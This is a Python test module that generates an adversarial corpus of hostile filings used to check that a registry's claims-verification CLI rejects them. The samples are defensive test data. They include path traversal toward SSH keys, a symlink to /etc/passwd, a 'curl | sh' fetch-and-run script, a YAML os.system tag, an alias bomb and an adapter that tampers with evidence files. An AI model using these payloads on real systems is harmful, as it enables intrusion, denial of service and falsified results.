"""The adversarial corpus: hostile attempts, each one trick played on an honest attempt.

    python -m tests.adversarial.generate OUT [NAME ...]   # build the registries into OUT/<name>/
    python -m tests.adversarial.generate --docs           # rewrite docs/adversarial.md

Every entry of `CORPUS` starts from the honest specimen (`bot.faces.demo.specimen`, through the
tests' `RegistryFactory`: a real git registry whose freeze was merged as a pull request before
the run), plays one trick a filer could try, and states what `claims verify` must answer: the
exact set of reason codes (notices left out), a fragment of the message, and the exit code.
`tests/adversarial/test_corpus.py` builds each entry into a temporary folder and runs the
real CLI on it; nothing is committed but this script, so a 50 MB line costs no repository
space. `docs/adversarial.md` is generated from the same table (a test checks it is current).

Some entries need more than files: `needs="server"` a local HTTP server (its base URL is
`Context.server`), `needs="sandbox"` the adapter sandbox (skipped where it cannot isolate).
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import git

from bot.edges.dump import dump_jsonl, dump_yaml
from bot.edges.load.yaml_ import parse_yaml
from bot.faces.demo.git_registry import WEB_FLOW_COMMITTER, Step
from bot.faces.demo.specimen import (
    AttemptSpec,
    RunSpec,
    challenge_files,
    judgments_file,
    market_document,
)
from bot.rules.evidence.hashing import case_hash
from bot.rules.qualification import required_checks
from tests.support import (
    AS_OF,
    CHALLENGE_SPEC,
    PROJECT,
    Built,
    Files,
    RegistryFactory,
    build_challenge,
    default_markets,
    market_of,
    rewrite,
    seed_released,
    shared_rules,
)

__all__ = ["CORPUS", "Case", "Context", "Entry", "build", "render_docs"]

DOCS = PROJECT / "docs" / "adversarial.md"
WRAPPED = AttemptSpec(kind="wrapped")
# Market 20 states its own attack protocol (shared rules: "Market 20 states its own attack
# protocol in its box"); an attempt reports every term of it unchanged (docs/spec-notes.md).
PROTOCOL = {"rounds": 5, "access": "black-box", "attackers": "two independent teams"}
MARKET_20 = AttemptSpec(market=20, submitter="own-lab", slug="protocol-run")


@dataclass
class Context:
    """Where an entry is built and what it may use: the folder, a local server's base URL."""

    out: Path
    server: str = "http://127.0.0.1:8000"
    _factory: RegistryFactory | None = None

    def registry(self, spec: AttemptSpec | None = None, **kwargs: Any) -> Built:
        """A git registry holding one attempt (tests/conftest.py `make_registry`)."""
        if self._factory is None:
            self._factory = RegistryFactory(self.out)
        return self._factory(spec, **kwargs)


@dataclass
class Case:
    """A built entry: the registry, and the `claims` arguments that verify it."""

    built: Built
    args: list[str]


Builder = Callable[[Context], Case]


@dataclass(frozen=True)
class Entry:
    name: str  # the folder, named for the trick
    trick: str  # what the filer tried, one sentence
    codes: frozenset[str]  # exactly these reason codes (notices left out)
    fragment: str  # part of the message of one of those reasons
    build: Builder = field(repr=False, compare=False)
    exit: int = 1  # 1: evidence invalid; 0: valid evidence that does not qualify
    status: str | None = None  # with exit 0: the attempt's status
    needs: str | None = None  # "server" or "sandbox"


# ---- how an entry is verified ---------------------------------------------------------------


def _verify(built: Built, *extra: str) -> Case:
    """`claims verify ATTEMPT` on the working tree."""
    return Case(built, ["verify", str(built.attempt), *extra])


def _verify_pr(built: Built, head: bool = False) -> Case:
    """`claims verify --base-ref main` on an open pull request (with --head: from git objects)."""
    args = ["verify", "--registry", str(built.root), "--base-ref", "main"]
    if head:
        args += ["--head", built.repo.head.commit.hexsha]
    return Case(built, args)


def _files(change: Callable[[Files], None], spec: AttemptSpec | None = None) -> Builder:
    """An entry whose trick is one edit of the attempt's files before they are committed
    (after scores.yaml was derived: the filed table is the honest attempt's)."""

    def build(ctx: Context) -> Case:
        return _verify(ctx.registry(spec, change=change))

    return build


def _derived(change: Callable[[Files], None], spec: AttemptSpec | None = None) -> Builder:
    """An edit made before scores.yaml is derived, so the score table agrees with it: what
    a filer whose own tooling derives the table would file."""

    def build(ctx: Context) -> Case:
        return _verify(ctx.registry(spec, before_scores=change))

    return build


def _commit(repo: git.Repo, message: str, at: str = "2027-03-20T09:00:00Z") -> None:
    repo.git.add("-A")
    with repo.git.custom_environment(GIT_AUTHOR_DATE=at, GIT_COMMITTER_DATE=at):
        repo.git.commit("-q", "--allow-empty", "-m", message)


def _merged_pr(built: Built, branch: str, day: str, edit: Callable[[], object]) -> None:
    """A pull request `branch` that makes `edit` on `day` at 09:00 and is merged into main at
    10:00 as GitHub merges (its web flow commits the merge)."""
    repo = built.repo
    repo.git.checkout("-q", "-b", branch)
    edit()
    _commit(repo, branch, f"{day}T09:00:00Z")
    repo.git.checkout("-q", "main")
    when = f"{day}T10:00:00Z"
    with repo.git.custom_environment(
        GIT_AUTHOR_DATE=when, GIT_COMMITTER_DATE=when, **WEB_FLOW_COMMITTER
    ):
        repo.git.merge("--no-ff", "-q", "-m", f"Merge pull request: {branch}", branch)


def _folder(built: Built) -> str:
    return built.attempt.relative_to(built.root).as_posix()


def _replace(files: Files, name: str, old: bytes, new: bytes) -> None:
    assert old in files[name], (name, old)
    files[name] = files[name].replace(old, new, 1)


def _first_line(files: Files, name: str, edit: Callable[[bytes], bytes]) -> None:
    first, rest = files[name].split(b"\n", 1)
    files[name] = edit(first) + b"\n" + rest


def _trials(edit: Callable[[list[dict[str, Any]]], None]) -> Callable[[Files], None]:
    return lambda files: rewrite(files, "trials.jsonl", edit)


def _cases(edit: Callable[[list[dict[str, Any]]], None]) -> Callable[[Files], None]:
    return lambda files: rewrite(files, "freeze-cases.jsonl", edit)


def _splice(name: str, key: str, literal: bytes) -> Callable[[Files], None]:
    """Replace the value of `"key"` in the first record of `name` with a raw JSON literal."""

    def change(files: Files) -> None:
        def edit(line: bytes) -> bytes:
            record = json.loads(line)
            record["result"][key] = "@@literal@@"
            text = json.dumps(record, separators=(",", ":")).encode()
            return text.replace(b'"@@literal@@"', literal)

        _first_line(files, name, edit)

    return change


# ---- 1. paths -------------------------------------------------------------------------------


def _released_path(files: Files) -> None:
    _replace(files, "adapter/adapter.yaml", b"path: released/cases.jsonl", b"path: ../../.ssh/id")


def _output_path(files: Files) -> None:
    _replace(files, "adapter/adapter.yaml", b"- trials.jsonl", b"- ../../judgments.yaml")


def _nul_in_command(files: Files) -> None:
    _replace(files, "adapter/adapter.yaml", b"- convert.py", b'- "convert.py\\0--skip-check"')


def _out_in_adapter(files: Files) -> None:
    files["adapter/out/trials.jsonl"] = b"{}\n"


def _challenge_path(files: Files) -> None:
    _replace(files, "attempt.yaml", b"kind: run", b"kind: challenge\nchallenge_run: ../../markets")


def _file_url(files: Files) -> None:
    _replace(files, "attempt.yaml", b"url: https://evidence.example.org", b"url: file:///etc")


def _pr_writes(path: str, content: bytes) -> Builder:
    def build(ctx: Context) -> Case:
        built = ctx.registry(run="open")
        target = built.root / path.format(folder=_folder(built))
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
        _commit(built.repo, f"add {path}")
        return _verify_pr(built, head=True)

    return build


# ---- 2. links -------------------------------------------------------------------------------


def _link_file(ctx: Context) -> Case:
    built = ctx.registry()
    (built.attempt / "trials.jsonl").unlink()
    (built.attempt / "trials.jsonl").symlink_to("/etc/passwd")
    return _verify(built)


def _link_folder(ctx: Context) -> Case:
    built = ctx.registry()
    outside = built.root.parent / "elsewhere"
    (built.attempt / "raw-log").rename(outside)
    (built.attempt / "raw-log").symlink_to(outside, target_is_directory=True)
    return _verify(built)


def _link_committed(ctx: Context) -> Case:
    built = ctx.registry(run="open")
    (built.attempt / "notes.yaml").symlink_to("../../../../markets/market-03.yaml")
    _commit(built.repo, "a link to the market")
    return _verify_pr(built, head=True)


def _git(root: Path, *args: str, data: bytes | None = None) -> str:
    done = subprocess.run(["git", *args], cwd=root, input=data, capture_output=True, check=True)
    return done.stdout.decode("utf-8", "surrogateescape").strip()


def _crafted_entry(name: str) -> Builder:
    """A pull request whose head commit is made with git plumbing (`git mktree`), so its
    attempt folder holds an entry `git add` would never write: here one named `name`."""

    def build(ctx: Context) -> Case:
        built = ctx.registry(run="open")
        root = built.root
        blob = _git(root, "hash-object", "-w", "--stdin", data=b"market: 5\n")
        parts = _folder(built).split("/")
        listing = _git(root, "ls-tree", f"HEAD:{'/'.join(parts)}")
        tree = _git(root, "mktree", data=f"{listing}\n100644 blob {blob}\t{name}\n".encode())
        for depth in range(len(parts), 0, -1):  # each parent again, holding the new child
            parent = "/".join(parts[: depth - 1])
            rows = []
            for row in _git(root, "ls-tree", f"HEAD:{parent}").splitlines():
                meta, child = row.split("\t", 1)
                if child == parts[depth - 1]:
                    meta = f"{meta.rsplit(' ', 1)[0]} {tree}"
                rows.append(f"{meta}\t{child}\n")
            tree = _git(root, "mktree", data="".join(rows).encode())
        commit = _git(root, "commit-tree", tree, "-p", "HEAD", "-m", "crafted tree")
        _git(root, "update-ref", "refs/heads/filer/attempt", commit)
        return _verify_pr(built, head=True)

    return build


def _folder_renamed(ctx: Context) -> Case:
    """A merged attempt, moved by a later pull request to a new slug (its freeze with it)."""
    built = ctx.registry()
    built.repo.git.checkout("-q", "-b", "filer/rename")
    folder = _folder(built)
    built.repo.git.mv(folder, folder.replace("monitor-v1", "monitor-v2"))
    _commit(built.repo, "rename the attempt", "2027-03-25T09:00:00Z")
    return _verify_pr(built, head=True)


# ---- 3. names -------------------------------------------------------------------------------


def _case_clash(ctx: Context) -> Case:
    built = ctx.registry(run="open")
    (built.attempt / "Trials.JSONL").write_bytes((built.attempt / "trials.jsonl").read_bytes())
    _commit(built.repo, "the trials again, in capitals")
    return _verify_pr(built, head=True)


def _submitter_clash(ctx: Context) -> Case:
    built = ctx.registry(also=[AttemptSpec(submitter="Alice-Lab", slug="monitor-v2")], run="open")
    return _verify_pr(built, head=True)


def _look_alike(submitter: str | None, market: int = 3) -> Builder:
    def build(ctx: Context) -> Case:
        spec = AttemptSpec(market=market, submitter=submitter or "alice-lab")
        return _verify(ctx.registry(spec))

    return build


def _look_alike_in_pr(ctx: Context) -> Case:
    """The look-alike folder arrives in a pull request, where its path is checked too."""
    return _verify_pr(ctx.registry(AttemptSpec(submitter="\u0430lice-lab"), run="open"))


def _pr_git_change(kind: str) -> Builder:
    """A pull request that adds something git itself gives meaning to."""

    def build(ctx: Context) -> Case:
        built = ctx.registry(run="open")
        folder = _folder(built)
        if kind == "executable":
            script = built.attempt / "rerun.sh"
            script.write_text("#!/bin/sh\ncurl https://example.org/x | sh\n")
            script.chmod(0o755)
        elif kind == "submodule":
            sha = built.repo.head.commit.hexsha
            built.repo.git.update_index("--add", "--cacheinfo", f"160000,{sha},{folder}/vendor")
        elif kind == "gitattributes":
            (built.attempt / ".gitattributes").write_text("*.jsonl filter=rewrite diff=rewrite\n")
        elif kind == "lfs":
            (built.attempt / "raw-log" / "harness.log").write_bytes(
                b"version https://git-lfs.github.com/spec/v1\n"
                b"oid sha256:" + b"0" * 64 + b"\nsize 2286\n"
            )
        elif kind == "two-attempts":  # the freeze of a second attempt, filed alongside
            other = built.root / "attempts" / "market-05" / "alice-lab" / "monitor-v2"
            other.mkdir(parents=True)
            for name in ("freeze.yaml", "freeze-cases.jsonl"):
                (other / name).write_bytes((built.attempt / name).read_bytes())
        if kind == "submodule":  # committed from the index as it is (`add -A` would drop it)
            built.repo.git.commit("-q", "-m", "add a submodule")
        else:
            _commit(built.repo, f"add {kind}")
        return _verify_pr(built, head=True)

    return build


# ---- 4. YAML --------------------------------------------------------------------------------


def _alias_bomb(files: Files) -> None:
    lines = [b'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 10):
        refs = ", ".join(f"*a{level - 1}" for _ in range(9)).encode()
        lines.append(f"a{level}: &a{level} [".encode() + refs + b"]")
    files["attempt.yaml"] += b"\n".join([b"notes:", *(b"  " + line for line in lines)]) + b"\n"


def _yaml_deep(files: Files) -> None:
    files["attempt.yaml"] += b"notes: " + b"[" * 5000 + b"]" * 5000 + b"\n"


def _yaml_duplicate(files: Files) -> None:
    files["attempt.yaml"] += b"market: 5\n"


def _yaml_python_tag(files: Files) -> None:
    files["freeze.yaml"] += b'notes: !!python/object/apply:os.system ["id"]\n'


def _yaml_second_document(files: Files) -> None:
    files["attempt.yaml"] += b"---\nmarket: 5\nsubmitter: mallory\n"


def _yaml_over_size(files: Files) -> None:
    files["attempt.yaml"] += b"# " + b"x" * 1_100_000 + b"\n"


def _yaml_huge_integer(files: Files) -> None:
    _replace(files, "attempt.yaml", b"hours: 48", b"hours: " + b"9" * 400)


# ---- 5. JSONL -------------------------------------------------------------------------------


def _jsonl_deep(files: Files) -> None:
    _first_line(
        files, "trials.jsonl", lambda line: line[:-1] + b',"x":' + b"[" * 200 + b"]" * 200 + b"}"
    )


def _jsonl_duplicate(files: Files) -> None:
    _first_line(files, "trials.jsonl", lambda line: line[:-1] + b',"case_id":"sabotage-001"}')


def _jsonl_bom(files: Files) -> None:
    files["trials.jsonl"] = b"\xef\xbb\xbf" + files["trials.jsonl"]


def _bare_cr(files: Files) -> None:
    lines = files["trials.jsonl"].split(b"\n")
    files["trials.jsonl"] = b"\n".join([lines[0] + b"\r" + lines[1], *lines[2:]])


def _crlf_log(files: Files) -> None:
    files["raw-log/harness.log"] = files["raw-log/harness.log"].replace(b"\n", b"\r\n")


def _trailing_garbage(files: Files) -> None:
    _first_line(files, "trials.jsonl", lambda line: line + b' {"verdict":"caught"}')


def _lone_surrogate(files: Files) -> None:
    _first_line(files, "trials.jsonl", lambda line: line.replace(b'"traj-', b'"\\ud800traj-', 1))


def _fifo(ctx: Context) -> Case:
    import os

    built = ctx.registry()
    os.mkfifo(built.attempt / "raw-log" / "pipe")
    return _verify(built)


def _many_files(ctx: Context) -> Case:
    built = ctx.registry()
    for index in range(250):
        (built.attempt / f"note-{index:03d}.txt").write_text("x")
    return _verify(built)


def _fifty_megabytes(ctx: Context) -> Case:
    """The 50 MB line is written into the working tree when the entry is built, never kept."""
    built = ctx.registry()
    trials = built.attempt / "trials.jsonl"
    pad = b"a" * (50 * 1024 * 1024)
    trials.write_bytes(trials.read_bytes() + b'{"case_id":"sabotage-000","pad":"' + pad + b'"}\n')
    return _verify(built)


# ---- 6. times -------------------------------------------------------------------------------


def _naive(files: Files) -> None:
    def edit(trials: list[dict[str, Any]]) -> None:
        trials[3]["started_at"] = trials[3]["started_at"].removesuffix("Z")

    rewrite(files, "trials.jsonl", edit)


def _future(trials: list[dict[str, Any]]) -> None:
    trials[5]["started_at"] = "2031-05-01T09:00:00Z"


def _before_freeze(trials: list[dict[str, Any]]) -> None:
    trials[2]["started_at"] = "2027-01-09T09:00:00Z"


def _freeze_rewritten(ctx: Context) -> Case:
    """After the run is merged, a second merged pull request re-freezes the cases (with
    fresh hashes) to match the trials: the freeze now lands after every trial."""
    built = ctx.registry(judged=False)
    cases = built.attempt / "freeze-cases.jsonl"
    items = [json.loads(line) for line in cases.read_bytes().splitlines()]
    items[0]["content"]["prompt"] += " (reworded after the run)"
    items[0]["sha256"] = case_hash(items[0]["content"])
    _merged_pr(built, "refreeze", "2027-03-01", lambda: cases.write_bytes(dump_jsonl(items)))
    return _verify(built)


def _freeze_backdated(ctx: Context) -> Case:
    """The freeze reaches main as the filer's own commit, dated before the run."""
    built = ctx.registry(freeze_in_run=True, run="none", judged=False)
    for name, data in built.files.items():
        path = built.attempt / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    _commit(built.repo, "freeze and run, back-dated", "2027-01-03T00:00:00Z")
    return _verify(built)


# ---- 7. cases and trials --------------------------------------------------------------------


def _again(case_id: str) -> Callable[[Files], None]:
    def edit(trials: list[dict[str, Any]]) -> None:
        trials.append(dict(trials[1], case_id=case_id, trajectory="traj-again"))

    return _trials(edit)


def _frozen_twice(files: Files) -> None:
    """Case sandbagging-000 frozen again as sandbagging-999, with a trial of its own."""
    rewrite(files, "freeze-cases.jsonl", lambda c: c.append(dict(c[0], case_id="sandbagging-999")))
    rewrite(
        files,
        "trials.jsonl",
        lambda t: t.append(dict(t[0], case_id="sandbagging-999", trajectory="traj-again")),
    )


def _fullwidth_case_id(trials: list[dict[str, Any]]) -> None:
    trials.append(dict(trials[1], case_id="\uff53andbagging-001", trajectory="traj-again"))


def _reworded_case(cases: list[dict[str, Any]]) -> None:
    cases[2]["content"]["prompt"] += " (now easier)"


def _drop_failure(files: Files) -> None:
    rewrite(files, "trials.jsonl", lambda trials: trials.pop(0))


# ---- 8. scores and bars ---------------------------------------------------------------------


def _rounded(files: Files) -> None:
    """The false-safe bound rounded down to two places in the filer's favour."""
    text = files["scores.yaml"].decode()
    document, _ = parse_yaml(files["scores.yaml"], "scores.yaml")
    assert document is not None and isinstance(document.data, dict)
    bound = document.data["bars"]["false-safe"]["bound"]
    files["scores.yaml"] = text.replace(
        f"bound: {bound}", f"bound: {round(bound - 0.005, 2)}", 1
    ).encode()
    assert files["scores.yaml"] != text.encode()


def _no_scored_case(files: Files) -> None:
    """Every case frozen as a control (a case's sha256 covers its content, not its kind): the
    false-safe bar, over the attack cases the design supplies, scores none."""

    def edit(cases: list[dict[str, Any]]) -> None:
        for case in cases:
            case["kind"] = "control"

    rewrite(files, "freeze-cases.jsonl", edit)


def _abstain(files: Files) -> None:
    def edit(certificates: list[dict[str, Any]]) -> None:
        for certificate in certificates:
            certificate["abstain"] = True
            certificate["scope_reason"] = "out of scope: the monitor declines every transcript"

    rewrite(files, "certificates.jsonl", edit)


def _one_family(trials: list[dict[str, Any]]) -> None:
    for trial in trials:
        if trial["attack_family"] is not None:
            trial["attack_family"] = "sabotage/prompt-injection"


# ---- 9. judgments ---------------------------------------------------------------------------


def _checks(number: int) -> tuple[str, ...]:
    """The human checks a run attempt in the default market `number` needs."""
    rules = shared_rules()
    market = market_of(default_markets(), number, rules)
    assert market is not None
    return required_checks(rules, market, "run")


def _forged_in_pr(ctx: Context) -> Case:
    """The run's pull request carries its own judgments.yaml, every check passed."""

    built = ctx.registry(run="open")
    (built.attempt / "judgments.yaml").write_bytes(
        judgments_file(built.files, dict.fromkeys(_checks(3), "pass"), "maintainer", "2027-03-01")
    )
    _commit(built.repo, "judgments, self-recorded")
    return _verify_pr(built)


def _stale(ctx: Context) -> Case:
    """A merged, judged attempt; a later pull request edits a trial the judgments covered."""
    built = ctx.registry()
    built.repo.git.checkout("-q", "-b", "filer/fix")
    trials = built.attempt / "trials.jsonl"
    trials.write_bytes(trials.read_bytes().replace(b'"score":0.', b'"score":0.0', 1))
    _commit(built.repo, "re-score", "2027-03-25T09:00:00Z")
    return _verify_pr(built)


def _stale_on_main(ctx: Context) -> Case:
    """Judged on main, then a later merged pull request edits a trial: the judgments
    cover evidence that is no longer there. Verified after the filing window closed."""
    built = ctx.registry()
    trials = built.attempt / "trials.jsonl"
    raw = trials.read_bytes().replace(b'"traj-1-0000"', b'"traj-1-0000-b"', 1)
    _merged_pr(built, "edit-a-trial", "2027-03-25", lambda: trials.write_bytes(raw))
    return _verify(built, "--as-of", "2027-09-15")


# ---- 10. hidden suites, raw logs, adapters --------------------------------------------------


def _leak(cases: list[dict[str, Any]]) -> None:
    cases[0]["public"]["reference_answer"] = "unsafe"


def _respelled_leak(trials: list[dict[str, Any]]) -> None:
    trials[4]["result"]["Reference-Answer"] = "unsafe"


def _big_log(files: Files, size: int) -> bytes:
    log = (files["raw-log/harness.log"] * (size // len(files["raw-log/harness.log"]) + 1))[:size]
    del files["raw-log/harness.log"]
    files["raw-log/head"], files["raw-log/tail"] = log[:1_000_000], log[-1_000_000:]
    text = files["attempt.yaml"].decode()
    old_sha = text.split("sha256: ", 1)[1].split("\n", 1)[0]
    old_bytes = text.split("bytes: ", 1)[1].split("\n", 1)[0]
    text = text.replace(old_sha, hashlib.sha256(log).hexdigest())
    files["attempt.yaml"] = text.replace(f"bytes: {old_bytes}", f"bytes: {size}").encode()
    return log


def _short_excerpt(files: Files) -> None:
    _big_log(files, 2_500_000)
    files["raw-log/tail"] = files["raw-log/tail"][1:]


def _redirect_to_huge(ctx: Context) -> Case:
    """raw_log.url answers with a redirect to a file far larger than raw_log.bytes (the
    test's server streams /huge without end)."""

    def change(files: Files) -> None:
        text = files["attempt.yaml"].decode()
        old = "url: https://evidence.example.org/alice-lab/monitor-v1/harness.log"
        assert old in text
        files["attempt.yaml"] = text.replace(old, f"url: {ctx.server}/harness.log").encode()

    return _verify(ctx.registry(change=change), "--fetch-raw-logs")


def _redirect_to_malformed_url(ctx: Context) -> Case:
    """raw_log.url answers with a redirect to a broken IPv6 literal (`Location: http://[::1/x`,
    the test's server's /malformed-redirect): the fetch raised and `verify` traced back."""

    def change(files: Files) -> None:
        text = files["attempt.yaml"].decode()
        old = "url: https://evidence.example.org/alice-lab/monitor-v1/harness.log"
        assert old in text
        url = f"url: {ctx.server}/malformed-redirect"
        files["attempt.yaml"] = text.replace(old, url).encode()

    return _verify(ctx.registry(change=change), "--fetch-raw-logs")


def _weirdml_eleven_submissions(ctx: Context) -> Case:
    """A challenge attempt of a weirdml-v3 run whose operator's log gives a task eleven
    submissions (the seed allows ten): the run is refused, and with it the attempt."""
    spec = AttemptSpec(
        market=11, submitter="hidden-lab", slug="monitor-hidden", kind="challenge",
        challenge_run="run-1",
    )  # fmt: skip
    run = RunSpec(scorer="weirdml-v3")
    attempt, run_files = challenge_files(spec, run)
    events = f"scores/{spec.submitter}/{spec.slug}/events.jsonl"
    lines = run_files[events].decode().splitlines(keepends=True)
    task = json.loads(lines[0])["task"]
    extra = [
        json.dumps({"task": task, "tokens": 6_000_000 + n, "event": "submission", "score": 0})
        + "\n"
        for n in range(9)
    ]
    run_files[events] = "".join(lines[:3] + extra + lines[3:]).encode()
    frozen = run.frozen_at + timedelta(hours=1)
    scored = datetime(2027, 2, 25, 9, 0, tzinfo=UTC)
    freeze = {f"{run.folder}/{n}": run_files[n] for n in ("run.yaml", "freeze-cases.jsonl")}
    rest = {
        f"{run.folder}/{n}": data
        for n, data in run_files.items()
        if n not in ("run.yaml", "freeze-cases.jsonl")
    }
    steps = [
        Step("challenge run-1: freeze", frozen - timedelta(hours=1), freeze, merged_at=frozen),
        Step("challenge run-1: scores", scored - timedelta(hours=1), rest, merged_at=scored),
    ]

    def hidden(files: Files) -> None:
        files.clear()
        files.update(attempt)

    market = market_document(11, "default", kinds=["challenge"])
    built = ctx.registry(
        spec,
        before_scores=hidden,
        steps=steps,
        markets={"markets/market-11.yaml": dump_yaml(market)},
    )
    return _verify(built)


def _tampering_adapter(ctx: Context) -> Case:
    """The filed trials claim a missed attack was caught; the adapter tries to make the
    released data agree (overwriting its inputs and the attempt's files) before copying."""
    tamper = (
        b"import shutil, sys\n"
        b"for target in (sys.argv[2], '../trials.jsonl', '/work/trials.jsonl'):\n"
        b"    try:\n"
        b"        data = open(target, 'rb').read()\n"
        b"        open(target, 'wb').write(data.replace(b'false_safe', b'caught'))\n"
        b"    except OSError:\n"
        b"        pass\n"
        b"shutil.copyfile(sys.argv[1], 'out/freeze-cases.jsonl')\n"
        b"shutil.copyfile(sys.argv[2], 'out/trials.jsonl')\n"
    )
    spec = AttemptSpec(kind="wrapped", false_safe_rate=0.2, seed=3)

    def change(files: Files) -> None:
        files["adapter/convert.py"] = tamper
        files["trials.jsonl"] = files["trials.jsonl"].replace(b'"false_safe"', b'"caught"')

    honest = ctx.registry(spec)
    built = ctx.registry(spec, change=change, scores=False)
    seed_released(ctx.out / "cache", honest.files)
    return _verify(built, "--rerun-adapters", "--released-cache", str(ctx.out / "cache"))


# ---- 11. markets ----------------------------------------------------------------------------


def _market_20(protocol: dict[str, Any] | None) -> Builder:
    def build(ctx: Context) -> Case:
        markets = {
            **default_markets(),
            "markets/market-20.yaml": dump_yaml(
                market_document(20, "own", attack_protocol=PROTOCOL)
            ),
        }
        extra: dict[str, Any] = {}
        if protocol is not None:
            extra = {
                "adversarial": {"access_frozen_at": "2027-01-10T12:00:00Z", "protocol": protocol}
            }
        spec = AttemptSpec(market=20, submitter="own-lab", slug="protocol-run", extra=extra)
        return _verify(ctx.registry(spec, markets=markets))

    return build


# ---- the corpus -----------------------------------------------------------------------------


def _case_clash_in_tree(files: Files) -> None:
    """Trials.JSONL beside trials.jsonl, merged on main: a working tree, no pull request."""
    files["Trials.JSONL"] = files["trials.jsonl"]


def _site_name_clash(files: Files) -> None:
    """A file NOTES and a folder NOTES.txt/: the site once copied NOTES to files/.../NOTES.txt,
    the very name of the folder, and every build stopped."""
    files["NOTES"] = b"what we did\n"
    files["NOTES.txt/more"] = b"and more\n"


# ---- 12. values one stage accepts and another cannot carry (issue 21) -----------------------

_FAILS_ON_EMPTY_DATA = b"""import os, shutil, sys
if os.path.getsize(sys.argv[2]) == 0:  # the emptied-data rerun cannot tell: it fails
    sys.exit(1)
shutil.copyfile(sys.argv[1], "out/freeze-cases.jsonl")
shutil.copyfile(sys.argv[2], "out/trials.jsonl")
"""


def _big_integer_in_edited_trials(ctx: Context) -> Case:
    """Missed attacks filed as caught (the score table agrees), and one trial holding an
    integer past 2**53 - 1: the rerun comparison found no RFC 8785 form for the filed file and
    reported no difference, so the edited trials counted as reproduced."""
    spec = AttemptSpec(kind="wrapped", false_safe_rate=0.2, seed=3)

    def before_scores(files: Files) -> None:
        files["adapter/convert.py"] = _FAILS_ON_EMPTY_DATA
        files["trials.jsonl"] = files["trials.jsonl"].replace(b'"false_safe"', b'"caught"')

    def change(files: Files) -> None:
        _replace(files, "trials.jsonl", b'"result":{', b'"result":{"n":9007199254740993,')

    honest = ctx.registry(spec)
    built = ctx.registry(spec, before_scores=before_scores, change=change)
    seed_released(ctx.out / "cache", honest.files)
    return _verify(built, "--rerun-adapters", "--released-cache", str(ctx.out / "cache"))


def _challenge_case_retyped(ctx: Context) -> Case:
    """The run flags every case `hard: true` and market 11's false-safe bar counts only those;
    the attempt's copy writes `hard: 1` on the cases the operator scored as failures."""
    from dataclasses import replace

    def run(files: Files) -> None:
        def flag(cases: list[dict[str, Any]]) -> None:
            for case in cases:
                case["public"]["hard"] = True

        rewrite(files, "freeze-cases.jsonl", flag)

    def attempt(files: Files) -> None:
        trials = [json.loads(line) for line in files["trials.jsonl"].splitlines()]
        failed = {t["case_id"] for t in trials if t["result"]["verdict"] == "false_safe"}

        def flag(cases: list[dict[str, Any]]) -> None:
            for case in cases:
                case["public"]["hard"] = 1 if case["case_id"] in failed else True

        rewrite(files, "freeze-cases.jsonl", flag)

    document = market_document(11, "default", kinds=["challenge"])
    document["bars"][0]["over"]["case"]["hard"] = True
    markets = {**default_markets(), "markets/market-11.yaml": dump_yaml(document)}
    spec = replace(CHALLENGE_SPEC, false_safe_rate=0.5, seed=4)
    built = build_challenge(ctx.registry, spec=spec, attempt=attempt, edit_run=run, markets=markets)
    return _verify(built)


def _entry(
    name: str,
    trick: str,
    codes: Sequence[str],
    fragment: str,
    build: Builder,
    **kwargs: Any,
) -> Entry:
    return Entry(name, trick, frozenset(codes), fragment, build, **kwargs)


CORPUS: tuple[Entry, ...] = (
    # 1. paths
    _entry(
        "path-traversal-released-data",
        "adapter.yaml names released data at ../../.ssh/id, outside the sandbox's inputs",
        ["schema"],
        "released_data[0].path: '../../.ssh/id' does not match",
        _files(_released_path, WRAPPED),
    ),
    _entry(
        "path-traversal-adapter-output",
        "adapter.yaml lists ../../judgments.yaml among the files the adapter writes",
        ["schema"],
        'got "../../judgments.yaml", expected one of',
        _files(_output_path, WRAPPED),
    ),
    _entry(
        "path-traversal-challenge-run",
        "attempt.yaml's challenge_run is ../../markets, a path instead of a run's slug",
        ["schema"],
        "challenge_run: '../../markets' does not match",
        _files(_challenge_path),
    ),
    _entry(
        "path-traversal-raw-log-url",
        "raw_log.url is file:///etc/... instead of a public http(s) address",
        ["schema"],
        "raw_log.url: 'file:///etc/",
        _files(_file_url),
    ),
    _entry(
        "path-outside-attempt-folder",
        "the pull request also writes a file beside its attempt folder",
        ["path-outside-attempt"],
        "outside the attempt folder",
        _pr_writes("attempts/market-03/alice-lab/sneaky.yaml", b"a: 1\n"),
    ),
    _entry(
        "path-protected-market",
        "the pull request rewrites its market's contract (a lower bar)",
        ["protected-path"],
        "markets/market-03.yaml",
        _pr_writes(
            "markets/market-03.yaml", dump_yaml(market_document(3, "default"))[:-1] + b"\n# lower\n"
        ),
    ),
    # 2. links
    _entry(
        "symlink-file",
        "trials.jsonl is a link to /etc/passwd",
        ["symlink"],
        "a symbolic link (to '/etc/passwd'); links are refused",
        _link_file,
    ),
    _entry(
        "symlink-folder",
        "raw-log/ is a link to a folder outside the registry",
        ["symlink"],
        "links are refused",
        _link_folder,
    ),
    _entry(
        "symlink-committed",
        "the pull request commits a link to the market contract (read from git objects)",
        ["symlink"],
        "a symbolic link (to '../../../../markets/market-03.yaml')",
        _link_committed,
    ),
    _entry(
        "git-tree-dot-dot-entry",
        "a crafted head commit (git mktree) holds a file named .. in the attempt folder",
        ["path-characters"],
        "no valid git tree holds",
        _crafted_entry(".."),
    ),
    _entry(
        "attempt-folder-renamed",
        "a pull request moves a merged, judged attempt to a new slug, freeze and all",
        # The moved freeze lands with the merge, after the trials: as on main once merged.
        ["maintainer-file", "merged-evidence-changed", "several-attempts", "trial-before-freeze"],
        "merged evidence changes only",
        _folder_renamed,
    ),
    _entry(
        "executable-file-in-pull-request",
        "the pull request adds an executable script to the attempt folder",
        ["executable-file"],
        "must not be executable",
        _pr_git_change("executable"),
    ),
    _entry(
        "submodule-in-pull-request",
        "the pull request adds a submodule (a gitlink) inside the attempt folder",
        ["submodule"],
        "a git submodule",
        _pr_git_change("submodule"),
    ),
    _entry(
        "gitattributes-filter",
        "the pull request adds .gitattributes asking for a filter on every JSONL file",
        ["attempt-location", "git-file"],
        "a name git reads",
        _pr_git_change("gitattributes"),
    ),
    _entry(
        "lfs-pointer-raw-log",
        "the raw log is replaced by a Git LFS pointer, so the repository never holds it",
